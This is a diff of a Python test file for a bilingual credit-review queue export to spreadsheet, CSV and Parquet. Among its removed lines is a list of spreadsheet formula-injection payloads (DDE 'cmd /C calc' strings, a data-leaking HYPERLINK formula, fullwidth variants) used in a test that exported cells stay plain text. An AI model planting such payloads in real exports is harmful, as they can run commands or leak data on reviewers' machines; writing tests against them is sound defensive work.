@@ -6,52 +6,40 @@ import csv
 import json
 import time
 from datetime import UTC, date, datetime, timedelta
+from operator import itemgetter
 from pathlib import Path
 
 import openpyxl
 import pyarrow.parquet as pq
 import pytest
 
-import tasks.export
+import tasks.export.queue
 from ledger import open_ledger
-from linewatch.case import KINDS, OUTCOME_REASONS, OUTCOMES, fingerprint
+from linewatch.case import KINDS, fingerprint
 from linewatch.casework import Done
 from linewatch.errors import DataRefused, NotFound
 from linewatch.queue_columns import COLUMNS
-from tasks.export import export_night, export_queue, plain, queue_rows
+from tasks.export import export_night, export_queue, queue_rows
+from tasks.export.queue import plain
 from tasks.export.shown import told
+from tasks.export.workbook import SHEETS
 from tests.tasks.decisions_fixture import AS_OF, committed_home, decrease, line
 
 pytestmark = pytest.mark.filterwarnings("ignore:Sparkline Group extension")
 
 HEAD = [column.name for column in COLUMNS]
-FORMULAS = [
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://example.invalid?x="&A1,"more")',
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "DDE",
-]
 
 
 def asked(facility_id, *triggers, **facts):
     return decrease(facility_id, route="referred", triggers=list(triggers or ["large_decrease"]), **facts)
 
 
-def sheet_rows(path, sheet="Queue 队列"):
-    """The sheet as dicts by column name."""
+def sheet_rows(path):
+    """The rows of all sheets of cases as dicts by column name, the first to look at first."""
     book = openpyxl.load_workbook(path)
-    _, *rows = book[sheet].iter_rows(values_only=True)
-    return [dict(zip(HEAD, row, strict=True)) for row in rows]
+    sheets = [book[title] for title in SHEETS.values() if title in book]
+    rows = [row for sheet in sheets for row in sheet.iter_rows(min_row=2, values_only=True)]
+    return sorted((dict(zip(HEAD, row, strict=True)) for row in rows), key=itemgetter("priority"))
 
 
 def csv_rows(path):
@@ -93,7 +81,9 @@ def test_the_queue_holds_each_line_of_each_open_case_and_no_other(home):
     assert shown["due_on"].date() == date(2026, 11, 25)
     assert "The decrease is large." in shown["why"]
     assert "下调幅度较大。" in shown["why"]
-    assert shown["reasons"].startswith("Payments to us have been late.\n")
+    assert (
+        shown["reasons"].splitlines()[0] == "Payments to us have been late. 近期在我们这里的还款出现过逾期。"
+    )
     assert (rows[0]["grade"], rows[0]["score"], rows[0]["pd"]) == (None, None, None)
 
 
@@ -158,32 +148,6 @@ def test_the_parquet_queue_keeps_whole_cents(home):
     assert rows[1]["limit_cents"] == 1_200_000
 
 
-def test_only_the_answers_can_be_written_and_they_come_from_lists(home):
-    book = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)
-    sheet = book["Queue 队列"]
-    assert sheet.protection.sheet
-    assert sheet.freeze_panes == "F2"
-    assert sheet.auto_filter.ref
-    unlocked = {HEAD[cell.column - 1] for cell in sheet[2] if not cell.protection.locked}
-    assert unlocked == {"outcome", "new_limit", "outcome_reason", "note", "reviewer"}
-    lists = {
-        str(validation.sqref): validation.formula1
-        for validation in sheet.data_validations.dataValidation
-        if validation.type == "list"
-    }
-    assert set(lists.values()) == {f"lists!$A$1:$A${len(OUTCOMES)}", f"lists!$B$1:$B${len(OUTCOME_REASONS)}"}
-    assert [cell.value for cell in book["lists"]["A"]][: len(OUTCOMES)] == list(OUTCOMES)
-    assert {book["lists"].sheet_state, book["months"].sheet_state} == {"hidden"}
-
-
-def test_the_guide_explains_every_column_and_code_in_both_languages(home):
-    book = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)
-    told = [[cell for cell in row if cell] for row in book["Guide 说明"].iter_rows(values_only=True)]
-    explained = {row[0] for row in told if len(row) == 3}
-    assert {f"{column.en} {column.zh}" for column in COLUMNS} <= explained
-    assert {*OUTCOMES, *OUTCOME_REASONS, "site_visit", "pd_near_edge", "late_payments"} <= explained
-
-
 def test_a_row_that_comes_back_changed_is_known_by_its_fingerprint(home):
     row = sheet_rows(export_queue(home, AS_OF, "xlsx").path)[1]
     batch = next((home / "batches").iterdir()).name
@@ -194,9 +158,9 @@ def test_a_row_that_comes_back_changed_is_known_by_its_fingerprint(home):
 
 
 def test_the_queue_in_a_terminal_has_the_first_cases_in_order_with_what_applies_alone(home):
-    night, rows = queue_rows(home, limit=2)
-    text = told(rows, "HOME")
-    assert (night, text.count(", due ")) == (AS_OF, 2)
+    found = queue_rows(home, limit=2)
+    text = told(found.rows, "HOME")
+    assert (found.as_of, text.count(", due ")) == (AS_OF, 2)
     assert text.startswith("1. interview, due 2026-11-27: borrower B-F3\n   F3  consumer_established")
     assert "limit 12,000.00 CNY, owed 3,000.00; decrease to 8,000.00\n     - The decrease is large." in text
     assert "because Payments to us have been late." in text
@@ -206,7 +170,7 @@ def test_the_queue_in_a_terminal_has_the_first_cases_in_order_with_what_applies_
 
 def test_the_queue_in_a_terminal_tells_the_law_the_advice_and_an_offer_where_there_are_any(tmp_path):
     facts = {"law_limit_cents": 1_000_000, "recommendation": "draw_stop", "offered_limit_cents": 1_500_000}
-    _, rows = queue_rows(committed_home(tmp_path, [asked("F1", **facts)]))
+    rows = queue_rows(committed_home(tmp_path, [asked("F1", **facts)])).rows
     text = " ".join(told(rows, "HOME").split())
     assert "advice draw_stop; the law alone 10,000.00, whatever the answer; an offer of 15,000.00" in text
     assert json.loads(json.dumps(plain(rows[0])))["law_limit"] == "10000.00"
@@ -224,7 +188,8 @@ def test_a_team_gets_its_own_cases_and_a_limit_takes_the_first(home):
 
 def test_a_workbook_has_the_first_cases_and_the_night_says_how_many_it_left_out(home, monkeypatch):
     monkeypatch.setattr("tasks.export.CASES_IN_A_WORKBOOK", 2)
-    monkeypatch.setattr("tasks.export.AT_ONCE", 1)
+    monkeypatch.setattr("tasks.export.queue.AT_ONCE", 1)
+    monkeypatch.setattr("sql.reviews.AT_ONCE", 1)
     exported = export_night(home, AS_OF)
     assert [row["facility_id"] for row in sheet_rows(exported.queue_xlsx)] == ["F3", "F1"]
     assert len(csv_rows(exported.queue_csv)) == exported.lines == 3
@@ -249,8 +214,8 @@ def test_an_export_that_is_cut_off_leaves_the_one_before(home, format, monkeypat
             raise OSError("cut off")
         return shown(row, *given)
 
-    shown = tasks.export._shown
-    monkeypatch.setattr("tasks.export._shown", cut_off_at_the_second)
+    shown = tasks.export.queue.shown
+    monkeypatch.setattr("tasks.export.queue.shown", cut_off_at_the_second)
     with pytest.raises(OSError, match="cut off"):
         export_queue(home, AS_OF, format)
     assert (home / "out" / str(AS_OF) / f"queue.{format}").read_bytes() == before
@@ -286,24 +251,6 @@ def test_what_is_not_there_is_refused_with_what_to_do_now(home, asked_for, what)
         export_queue(home, **asked_for)
     assert refused.value.exit_code == 2
     assert refused.value.what_now
-
-
-def test_text_that_a_spreadsheet_would_run_stays_text(tmp_path):
-    lines = [
-        asked(formula, borrower_id=formula, segment=formula, limit_cents=1_000_000 + number)
-        for number, formula in enumerate(FORMULAS)
-    ]
-    home = committed_home(tmp_path, lines)
-    exported = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)["Queue 队列"]
-    for row in exported.iter_rows(min_row=2):
-        for cell in row:
-            assert cell.data_type != "f", cell.value
-            assert cell.hyperlink is None
-    for row in csv_rows(export_queue(home, AS_OF, "csv").path):
-        for name in ("facility_id", "borrower_id", "segment"):
-            assert not row[name].lstrip().startswith(tuple("=+-@＝＋－＠"))
-        assert float(row["change"]) < 0
-        assert row["change"].startswith("-")
 
 
 def test_a_case_from_an_earlier_night_stays_in_the_queue_until_somebody_closes_it(tmp_path):
@@ -372,30 +319,6 @@ def test_money_has_the_digits_of_its_currency(tmp_path):
     )
     limits = {row["facility_id"]: row["limit"] for row in csv_rows(export_queue(home, AS_OF, "csv").path)}
     assert limits == {"yen": "1200000", "dinar": "1200.000"}
-
-
-@pytest.mark.slow
-def test_ten_thousand_cases_are_exported_in_seconds(tmp_path):
-    months = [AS_OF.replace(day=1) - timedelta(days=31 * back) for back in range(1, 13)]
-    home = committed_home(
-        tmp_path,
-        [asked(f"F{number:05}", limit_cents=1_000_000 + number) for number in range(10_000)],
-        facility_month=[
-            {
-                "facility_id": f"F{number:05}",
-                "month": month.replace(day=1),
-                "closing_balance_cents": 5,
-                "limit_cents": 10,
-            }
-            for number in range(0, 10_000, 50)
-            for month in months
-        ],
-    )
-    start = time.perf_counter()
-    left = export_night(home, AS_OF)
-    took = time.perf_counter() - start
-    print(f"{left.lines} lines as XLSX and CSV in {took:.1f} s, {left.queue_xlsx.stat().st_size:,} bytes")
-    assert took < 30
 
 
 def test_every_column_and_kind_is_in_the_docs():
